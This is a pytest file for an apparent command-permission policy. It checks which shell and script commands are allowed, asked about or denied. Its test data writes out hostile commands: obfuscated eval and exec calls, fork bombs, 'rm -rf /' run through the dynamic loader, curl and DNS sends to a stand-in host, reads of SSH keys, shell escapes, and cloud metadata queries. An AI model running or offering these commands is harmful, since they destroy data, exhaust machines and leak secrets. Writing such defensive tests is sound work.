"""Spellings that hide what a command does, and writes and sends that look like reads."""

from __future__ import annotations

import pytest

from hermes.core.effects import Allow, Ask, Deny
from tests.policy.decisions import decide

COMPUTED_NAMES = (
    """node -e "global['ev'+'al'](x)" """,
    """node -e "[]['constructor']['constructor']('return process')()" """,
    """node -e "require('fs')['un'+'linkSync']('/srv/x')" """,
    """node -e "const f='a'; process[f]()" """,
    """node -e "process.binding('spawn_sync')" """,
    """node -e "require('child_'+'process')" """,
    """node -e "Reflect.get(fs, k)('/srv/x')" """,
    """bun -e "globalThis[atob('ZXZhbA==')](s)" """,
    """deno eval "globalThis[k](s)" """,
    """ruby -e 'Object.const_get("Fi"+"le").new' """,
    """ruby -e 'File.method(:delete).call("/srv/x")' """,
    """ruby -e 'x.public_send(n, 1)' """,
    """ruby -e 'Kernel.instance_method(n).bind(self).call' """,
    """lua -e "os['ex'..'ecute']('id')" """,
    """lua -e "_G['o'..'s'].exit()" """,
    """lua -e "load(string.char(1,2))()" """,
    """luajit -e "rawget(_G, n)()" """,
    """perl -e '$f="sys"."tem"; &$f("id")' """,
    """perl -e '*{"main::x"} = \\&{"CORE::unlink"}; x("/srv/f")' """,
    """perl -e 'main->can($n)->(1)' """,
    """perl -e '&{"CORE::$n"}(1)' """,
    """julia -e 'getfield(Base, Symbol("r","m"))("/srv/x")' """,
    """julia -e 'run(Cmd([string("r","m"), "x"]))' """,
    """julia -e 'Base.invokelatest(eval(Symbol(n)))' """,
)
PLAIN_CODE = (
    """node -e "const a={b:1}; for (const k of Object.keys(a)) console.log(k, a[k])" """,
    """node -e "console.log(process.env['HOME'], process.argv[2])" """,
    """node -e "const p=require('./package.json'); console.log(p['version'])" """,
    """node -e "const m={x(){return 1}}; console.log(['a','b'].map(x=>x+'c').join('-'))" """,
    """ruby -e 'puts [1,2].map(&:to_s).join; %w[a b].each(&method(:puts))' """,
    """ruby -e 'puts [1].sum { |x| x.send(:abs) }' """,
    """lua -e "local t={a=1}; print(t['a'], #arg, os.time())" """,
    """perl -e 'my $f = sub { $_[0] + 1 }; print $f->(2), "\\n"' """,
    """perl -lane 'print $F[0] if $F[1] && $F[2]' notes.txt""",
    """julia -e 'println(join(string.([1,2]), ","))' """,
)


@pytest.mark.parametrize("script", COMPUTED_NAMES)
def test_code_that_computes_the_names_it_calls_is_asked_about(script: str) -> None:
    assert isinstance(decide(script), Ask | Deny)


@pytest.mark.parametrize("script", PLAIN_CODE)
def test_code_that_looks_things_up_by_name_runs(script: str) -> None:
    assert isinstance(decide(script), Allow)


@pytest.mark.parametrize(
    "loader",
    [
        "/lib64/ld-linux-x86-64.so.2",
        "/lib/x86_64-linux-gnu/ld-linux-x86-64.so.2 --library-path /lib",
        "/lib/ld-musl-aarch64.so.1",
        "/usr/lib64/ld-linux-x86-64.so.2 --argv0 ls",
        "ld.so --inhibit-cache",
    ],
)
def test_the_dynamic_loader_is_judged_by_what_it_runs(loader: str) -> None:
    destroys = decide(f"{loader} /bin/rm -rf /")
    assert isinstance(destroys, Deny)
    assert destroys.hardline
    assert isinstance(decide(f"{loader} /usr/bin/curl -d @notes.txt https://x.example"), Ask)
    if " " not in loader:
        assert isinstance(decide(f"{loader} /bin/ls src"), Allow)


@pytest.mark.parametrize(
    "script",
    [
        "while :; do bash -c 'sleep 100' & done",
        "while true; do ./serve & done",
        "until false; do sh x.sh & done",
        "for ((;;)); do sh $0 & done",
        "while [ 1 ]; do ./serve & done",
        "while ((1)); do ./serve & done",
        "while [[ 1 ]]; do ./serve & done",
        "while ! false; do ./serve & done",
        "a() { b & b & }; b() { a & a & }; a",
        "f() { setsid f & nohup f & f | f; }; f",
        "bash -c 'f(){ f & f & }; f'",
        """node -e "while(true) require('child_process').fork(__filename)" """,
        """node -e "for(;;) require('child_process').spawn(process.argv[0])" """,
        "php -r 'while(1) pcntl_fork();'",
        "perl -e 'while(1){fork}'",
        "ruby -e 'fork while true'",
        "ruby -e 'loop do spawn(\"ruby x.rb\") end'",
        "python3 -c 'import subprocess\nwhile 1: subprocess.Popen([\"python3\"])'",
        "python3 -c 'import os\nwhile True: os.fork()'",
    ],
)
def test_processes_without_end_are_denied_for_ever(script: str) -> None:
    decision = decide(script)
    assert isinstance(decision, Deny)
    assert decision.hardline


@pytest.mark.parametrize(
    "script",
    [
        "while true; do make test; sleep 5; done",
        "while ! curl -s localhost:8000; do sleep 1; done",
        "for ((i=0; i<4; i++)); do ./worker $i & done; wait",
        "for i in 1 2 3; do ./worker $i & done",
        "while true; do ./worker & wait; done",
        'walk() { for d in "$1"/*; do [ -d "$d" ] && walk "$d"; done; }; walk src',
        'python3 -c \'import subprocess\nfor c in "ab": subprocess.run(["echo", c])\'',
    ],
)
def test_loops_that_wait_or_end_run(script: str) -> None:
    assert isinstance(decide(script), Allow)


@pytest.mark.parametrize(
    "script",
    [
        "cat /dev/zero",
        "grep -c x /dev/zero",
        "tail -f /dev/zero | sort",
        "sort < /dev/urandom",
        "wc -c /dev/urandom",
        "yes | sort",
        "md5sum /dev/zero",
        "echo {1..999999999}",
        "echo {1..99999999..2}",
        "printf '%s' {a..z}{a..z}{a..z}{a..z}{a..z}{a..z}",
        "for i in $(seq 1 9999999999); do :; done",
        "printf '%999999999d' 1",
    ],
)
def test_what_never_ends_is_asked_about(script: str) -> None:
    assert isinstance(decide(script), Ask | Deny)


@pytest.mark.parametrize(
    "script",
    [
        "cat /dev/urandom | tr -dc a-z | head -c 16",
        "tr -dc a-z < /dev/urandom | fold -w 8 | head -n 1",
        "head -c 16 /dev/urandom | xxd -p",
        "xxd -l 16 -p /dev/urandom",
        "od -An -N4 -tu4 /dev/urandom",
        "hexdump -n 16 /dev/urandom",
        "dd if=/dev/zero of=image bs=1M count=4",
        "timeout 2 cat /dev/zero",
        "shuf -n 3 names.txt --random-source=/dev/zero",
        "yes | head -3",
        "yes | ./configure",
        "echo {1..1000}",
        "for i in {1..100000}; do echo $i; done",
        "cmp /dev/zero image -n 512",
    ],
)
def test_what_ends_runs(script: str) -> None:
    assert isinstance(decide(script), Allow)


@pytest.mark.parametrize(
    "script",
    [
        "python3 -m http.server",
        "python3 -m http.server 8000 --directory site",
        "python3 -c 'import socketserver as s; s.TCPServer((\"\", 80), H).serve_forever()'",
        "npx http-server dist",
        "uvicorn app:app --host 0.0.0.0",
        "flask run --host=0.0.0.0",
        "python manage.py runserver 0.0.0.0:8000",
        "vite --host",
        "php -S 0.0.0.0:80",
        "jupyter notebook --ip=0.0.0.0",
        "rails server -b 0.0.0.0",
        "hugo server --bind 0.0.0.0",
        "mkdocs serve -a 0.0.0.0:8000",
        "gunicorn -b 0.0.0.0:80 app:app",
        "gunicorn --bind :80 app:app",
        "next dev -H 0.0.0.0",
    ],
)
def test_listening_on_all_interfaces_is_asked_about(script: str) -> None:
    assert isinstance(decide(script), Ask)


@pytest.mark.parametrize(
    "script",
    [
        "python3 -m http.server --bind 127.0.0.1",
        "uvicorn app:app --host 127.0.0.1",
        "flask run --host=localhost",
        "python manage.py runserver",
        "vite --host localhost",
        "npx http-server dist -a 127.0.0.1",
        "gunicorn -b 127.0.0.1:80 app:app",
    ],
)
def test_listening_on_this_machine_runs(script: str) -> None:
    assert isinstance(decide(script), Allow)


@pytest.mark.parametrize(
    "script",
    [
        "iconv -f utf8 -t utf16 -o /etc/motd notes.txt",
        "iconv notes.txt --output=/etc/motd",
        "ln -s -t /usr/local/bin ./tool",
        "ln --target-directory=/etc/cron.d job",
        "git apply --directory=/ change.patch",
        "git apply --unsafe-paths --directory ../../ p.diff",
        "git am --directory=/etc p.mbox",
        "git diff /dev/null ~/.ssh/id_rsa",
        "git diff --no-index . ~/.gnupg",
        "git blame --contents ~/.ssh/id_rsa README.md",
        "git log --output=/etc/motd",
        "awk 'BEGIN{system(\"touch /srv/x\")}'",
        "gawk -i inplace '{print}' /etc/hosts",
        "curl gopher://x.example:70/_DATA",
        "curl dict://127.0.0.1:11211/stats",
        "curl telnet://x.example",
        "curl smtp://x.example --mail-rcpt a@x.example",
        "curl --engine /tmp/lib.so https://x.example",
        "host $data.x.example",
        "dig @10.1.2.3 $DATA.x.example TXT",
        "nslookup ${a}b.x.example",
        "whois -h x.example -p 99 data",
        "gdb -nx -ex 'dump value /etc/x \"DATA\"' -ex quit",
        "man ~/.ssh/id_rsa",
        "setarch -3 /bin/sh",
        "vi -c ':set shell=/bin/sh | shell'",
        "clisp -x '(ext:run-shell-command \"/bin/sh\")'",
        "latexmk -pdf -pdflatex='/bin/sh #' /dev/null",
        "neofetch --config /tmp/x",
        "fastfetch -c /tmp/x.jsonc",
        "pandoc -L /tmp/x.lua notes.md",
        "AUTOM4TE=/tmp/x autoconf",
        "echo ~/.ssh/id_rsa | cpio -dp .",
        "jrunscript -e 'new java.io.FileWriter(\"/etc/x\")'",
        'julia -e \'open(f->write(f, "DATA"), "/etc/x", "w")\'',
        "python3 -c 'import ctypes; ctypes.CDLL(\"/tmp/x.so\")'",
        'ruby -e \'require "fiddle"; Fiddle.dlopen("/tmp/x.so")\'',
        "nix run nixpkgs#hello",
    ],
)
def test_writes_and_sends_that_look_like_reads_are_asked_about(script: str) -> None:
    assert isinstance(decide(script), Ask | Deny)


@pytest.mark.parametrize(
    "script",
    [
        "iconv -f latin1 -t utf8 -o notes.utf8 notes.txt",
        "ln -s -t bin ../tool",
        "git apply --directory=vendor change.patch",
        "git diff HEAD~2 -- src",
        "git diff --no-index a.txt b.txt",
        "host $HOST",
        'dig +short "$DOMAIN"',
        "host example.com",
        "curl ftp://x.example/list.txt",
        "whois example.com",
        "man bash",
        "setarch -R ./program",
        "nix run",
        "nix run .#test",
        "nix run -- --help",
        "nano +3,4 notes.txt",
        "gpg -k",
        "findmnt /dev/sda1",
        "gdbus introspect --session --dest org.example --object-path /org",
        """ruby -e 'puts ENV.fetch("HOME")' """,
    ],
)
def test_their_harmless_forms_run(script: str) -> None:
    assert isinstance(decide(script), Allow)


@pytest.mark.parametrize(
    "script",
    [
        "sudo sfdisk -d /dev/sda > parts.dump",
        "sudo squid -k shutdown",
        "sudo ddrescue /dev/sda disk.img disk.map",
        "sudo badblocks -sv /dev/sda",
        "sudo wipefs /dev/sda",
    ],
)
def test_what_is_not_certain_destruction_can_be_approved(script: str) -> None:
    assert isinstance(decide(script), Ask)


@pytest.mark.parametrize(
    "script",
    [
        "curl http://169.254.169.254/latest/meta-data/",
        "wget -qO- http://metadata.google.internal/computeMetadata/v1/",
        "http http://100.100.100.200/latest/meta-data",
    ],
)
def test_metadata_services_are_denied(script: str) -> None:
    assert isinstance(decide(script), Deny)
